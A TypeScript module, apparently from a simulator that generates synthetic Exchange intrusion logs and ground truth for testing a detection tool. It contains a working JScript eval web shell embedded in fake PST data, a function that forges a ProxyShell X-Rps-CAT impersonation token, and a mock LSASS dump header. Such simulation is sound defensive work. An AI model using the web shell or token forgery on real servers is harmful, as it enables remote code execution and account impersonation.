import { csvRow, iso } from './format.js';
import { Rng } from './prng.js';
import type { AttackPlan, PlantedFile } from './proxylogon.js';
import type { Req } from './request.js';
import type { IndicatorKind } from './truth.js';
import type { Build, Host } from './world.js';

/**
 * Pieces shared by the 2021–2022 scenarios (ProxyShell, ProxyNotShell, OWASSRF, several actors): the Remote
 * PowerShell cmdlet log and EWS log rows an attack leaves, an `X-Rps-CAT` token, a PST-wrapped shell file, and
 * the ground truth each scenario states about itself. Attackers use 203.0.113.0/24, 198.51.100.0/24 and
 * 192.0.2.0/24 (documentation ranges); every name, token and address is invented.
 */

/** `Logging\CmdletInfra\Powershell-Proxy\Cmdlet\Rps_Cmdlet_*.LOG` columns (Exchange 2016, FORMATS.md). */
export const RPS_FIELDS = [
  'DateTime', 'StartTime', 'RequestId', 'ClientRequestId', 'MajorVersion', 'MinorVersion', 'BuildVersion', 'RevisionVersion',
  'ServerHostName', 'ProcessId', 'ProcessName', 'ThreadId', 'CultureInfo', 'Organization', 'AuthenticatedUser', 'ExecutingUserSid',
  'EffectiveOrganization', 'UserServicePlan', 'IsAdmin', 'ClientApplication', 'Cmdlet', 'Parameters', 'CmdletUniqueId',
  'UserBudgetOnStart', 'ContributeToFailFast', 'RunspaceSettingsCreationHint', 'ADViewEntireForest', 'ADRecipientViewRoot',
  'ADConfigurationDomainControllers', 'ADPreferredGlobalCatalogs', 'ADPreferredDomainControllers', 'ADUserConfigurationDomainController',
  'ADUserPreferredGlobalCatalog', 'ADuserPreferredDomainControllers', 'ThrottlingInfo', 'DelayInfo', 'ThrottlingDelay',
  'IsOutputObjectRedacted', 'CmdletProxyStage', 'CmdletProxyRemoteServer', 'CmdletProxyRemoteServerVersion', 'CmdletProxyMethod',
  'ProxiedObjectCount', 'CmdletProxyLatency', 'OutputObjectCount', 'ParameterBinding', 'BeginProcessing', 'ProcessRecord',
  'EndProcessing', 'StopProcessing', 'BizLogic', 'PowerShellLatency', 'UserInteractionLatency', 'ProvisioningLayerLatency',
  'ActivityContextLifeTime', 'TotalTime', 'ErrorType', 'ExecutionResult', 'CacheHitCount', 'CacheMissCount', 'GenericLatency',
  'GenericInfo', 'GenericErrors', 'ObjectGuid', 'ExternalDirectoryOrganizationId', 'ExternalDirectoryObjectId', 'NonPiiParameters',
] as const;

/** `Logging\Ews\Ews_*.LOG` columns, up to `GenericErrors` (the rest is left empty in simulated rows). */
export const EWS_FIELDS = [
  'DateTime', 'RequestId', 'MajorVersion', 'MinorVersion', 'BuildVersion', 'RevisionVersion', 'Ring', 'ClientRequestId',
  'AuthenticationType', 'IsAuthenticated', 'AuthenticatedUser', 'Organization', 'UserAgent', 'VersionInfo', 'ClientIpAddress',
  'ServerHostName', 'FrontEndServer', 'SoapAction', 'HttpStatus', 'RequestSize', 'ResponseSize', 'ErrorCode', 'ImpersonatedUser',
  'ProxyAsUser', 'ActAsUser', 'Cookie', 'CorrelationGuid', 'PrimaryOrProxyServer', 'TaskType', 'RemoteBackendCount',
  'LocalMailboxCount', 'RemoteMailboxCount', 'LocalIdCount', 'RemoteIdCount', 'BeginBudgetConnections', 'EndBudgetConnections',
  'BeginBudgetHangingConnections', 'EndBudgetHangingConnections', 'BeginBudgetAD', 'EndBudgetAD', 'BeginBudgetCAS', 'EndBudgetCAS',
  'BeginBudgetRPC', 'EndBudgetRPC', 'BeginBudgetFindCount', 'EndBudgetFindCount', 'BeginBudgetSubscriptions', 'EndBudgetSubscriptions',
  'MDBResource', 'MDBHealth', 'MDBHistoricalLoad', 'ThrottlingPolicy', 'ThrottlingDelay', 'ThrottlingRequestType',
  'TotalDCRequestCount', 'TotalDCRequestLatency', 'TotalMBXRequestCount', 'TotalMBXRequestLatency', 'RecipientLookupLatency',
  'ExchangePrincipalLatency', 'HttpPipelineLatency', 'CheckAccessCoreLatency', 'AuthModuleLatency', 'CallContextInitLatency',
  'PreExecutionLatency', 'CoreExecutionLatency', 'TotalRequestTime', 'DetailedExchangePrincipalLatency', 'ClientStatistics',
  'GenericInfo', 'AuthenticationErrors', 'GenericErrors', 'Puid', 'StartTime', 'ProcessId', 'TimeInGC', 'StartTotalMemory',
  'EndTotalMemory', 'StartGCCounts', 'EndGCCounts', 'TokenBasedThrottlingPolicy', 'BudgetKey', 'CoinsCharged', 'CoinsChargedMethod',
  'SidBudgetInfo', 'AppBudgetInfo', 'TenantBudgetInfo', 'ResourceAccessed', 'ResourceHealthBasedThreshold', 'ThrottledBy',
  'BackoffHint', 'WorkClassification',
] as const;

/** A planted line of one of the two extra logs, with the truth's marker. */
export interface ExtraLine {
  t: number;
  fields: Record<string, string>;
  mark?: { kind: IndicatorKind; note: string; value: string; ip?: string };
}

/** One cmdlet run through Remote PowerShell, as the cmdlet log records it. */
export function rpsLine(rng: Rng, o: {
  t: number; user: string; sid: string; cmdlet: string; parameters: string; app?: string; result?: string; mark?: ExtraLine['mark'];
}): ExtraLine {
  const dur = rng.range(15, 900);
  return {
    t: o.t,
    fields: {
      DateTime: iso(o.t), StartTime: iso(o.t - dur), RequestId: rng.guid(), ProcessId: String(rng.range(9000, 16000)),
      ProcessName: 'w3wp#MSExchangePowerShellAppPool', ThreadId: String(rng.range(20, 140)), AuthenticatedUser: o.user,
      ExecutingUserSid: o.sid, IsAdmin: 'False', ClientApplication: o.app ?? 'Unknown', Cmdlet: o.cmdlet, Parameters: o.parameters,
      CmdletUniqueId: rng.guid(), RunspaceSettingsCreationHint: 'GCRandomly', ADViewEntireForest: 'False', TotalTime: String(dur),
      ExecutionResult: o.result ?? 'Success', NonPiiParameters: o.parameters,
    },
    ...(o.mark ? { mark: o.mark } : {}),
  };
}

/** One EWS request as the back end's EWS log records it. */
export function ewsLine(rng: Rng, o: {
  t: number; user: string; ua: string; ip: string; action: string; status?: number; impersonated?: string; mark?: ExtraLine['mark'];
}): ExtraLine {
  return {
    t: o.t,
    fields: {
      DateTime: iso(o.t), RequestId: rng.guid(), Ring: 'Unknown', AuthenticationType: o.user ? 'Negotiate' : '', IsAuthenticated: o.user ? 'true' : 'false',
      AuthenticatedUser: o.user, UserAgent: o.ua, VersionInfo: 'Target=None;Req=Exchange2013/Exchange2013;', ClientIpAddress: o.ip,
      SoapAction: o.action, HttpStatus: String(o.status ?? 200), RequestSize: String(rng.range(400, 4000)), ResponseSize: String(rng.range(600, 90000)),
      ImpersonatedUser: o.impersonated ?? '', PrimaryOrProxyServer: 'PrimaryServer', TaskType: 'LocalTask',
      TotalRequestTime: String(rng.range(20, 800)), GenericInfo: `SoapAction_0=${o.action};`,
    },
    ...(o.mark ? { mark: o.mark } : {}),
  };
}

/** A log row in the column order, with the log's own version columns and server name. */
export function extraRow(fields: readonly string[], l: ExtraLine, build: Build, host: Host): string {
  const v: Record<string, string> = {
    MajorVersion: String(build.major), MinorVersion: String(build.minor), BuildVersion: String(build.build), RevisionVersion: String(build.revision),
    ServerHostName: host.name, ...l.fields,
  };
  return csvRow(fields.map((f) => v[f] ?? ''));
}

/** .NET BinaryWriter string: 7-bit length prefix. */
function netString(s: string): Buffer {
  const b = Buffer.from(s, 'utf8');
  const len: number[] = [];
  let n = b.length;
  do {
    len.push((n & 0x7f) | (n > 0x7f ? 0x80 : 0));
    n >>= 7;
  } while (n > 0);
  return Buffer.concat([Buffer.from(len), b]);
}

/**
 * An `X-Rps-CAT` value (ProxyShell): Exchange's serialized CommonAccessToken for the impersonated user — tagged
 * fields V(ersion) T(ype) C(ompressed) A(uth type) L(ogon name) U(ser SID) G(roups) E(xtensions) — base64, URL-encoded.
 */
export function rpsCat(logon: string, sid: string): string {
  const parts = [
    Buffer.from([0x56, 0x01, 0x00]),
    Buffer.from('T'), netString('Windows'),
    Buffer.from('C'), Buffer.from([0x00]),
    Buffer.from('A'), netString('Kerberos'),
    Buffer.from('L'), netString(logon),
    Buffer.from('U'), netString(sid),
    Buffer.from('G'), Buffer.from([0x00, 0x00, 0x00, 0x00]),
    Buffer.from('E'), Buffer.from([0x00, 0x00, 0x00, 0x00]),
  ];
  return encodeURIComponent(Buffer.concat(parts).toString('base64'));
}

/**
 * A mailbox exported to `.aspx` (ProxyShell): a PST file (`!BDN` magic) whose draft attachment, encoded so
 * that the PST's own permutation writes it out as plain text, holds the script among binary PST pages.
 */
export function pstShell(rng: Rng, secret: string): Buffer {
  const script = `<script language="JScript" runat="server">function Page_Load(){eval(Request["${secret}"],"unsafe");}</script>`;
  return Buffer.concat([Buffer.from('!BDN', 'latin1'), rng.bytes(rng.range(4000, 9000)), Buffer.from(script, 'latin1'), rng.bytes(rng.range(3000, 7000))]);
}

/** What a scenario states about itself: the e2e tests compare a scan with this. */
export interface ScenarioExpectation {
  /** Verdict status expected per family id (families absent here are not asserted). */
  verdicts: Record<string, string>;
  /** Incidents, in the order exhunt sorts them (compromised first, then by start). */
  incidents: Array<{
    status: 'compromised' | 'attempted';
    ips: string[];
    /** Shell URL paths. */
    shells: string[];
    /** Mailboxes named by the evidence (lower case). */
    mailboxes: string[];
    accounts: string[];
    allMailboxesReachable: boolean;
    /** Stages, in the order they first happen. */
    stages: string[];
  }>;
  /** IPs that only scanned (no incident). */
  scannerIps: string[];
}

export interface ScenarioPlan extends AttackPlan {
  rps: ExtraLine[];
  ews: ExtraLine[];
  expect: ScenarioExpectation;
}

/** An AttackPlan with the fields the ProxyLogon-era truth reads, for scenarios built from requests and files. */
export function scenarioPlan(p: {
  reqs: Req[]; files: PlantedFile[]; rps: ExtraLine[]; ews: ExtraLine[]; exploitIp: string; shellIp: string; scannerIps: string[];
  failedAttemptIps: string[]; exploitTime: number; shellRel: string; shellUrl: string; secret: string; lsassRel: string; archiveRel: string;
  shellUa: string; expect: ScenarioExpectation;
}): ScenarioPlan {
  p.reqs.sort((a, b) => a.t - b.t);
  return { ...p, oab: [], httpErr: [], resetTime: p.exploitTime };
}

/** The LSASS dump written by comsvcs.dll MiniDump (MDMP magic). */
export function lsassDump(rng: Rng): Buffer {
  return Buffer.concat([Buffer.from('MDMP\x93\xa7\x00\x00', 'latin1'), rng.bytes(rng.range(3000, 7000))]);
}

export { csvRow };
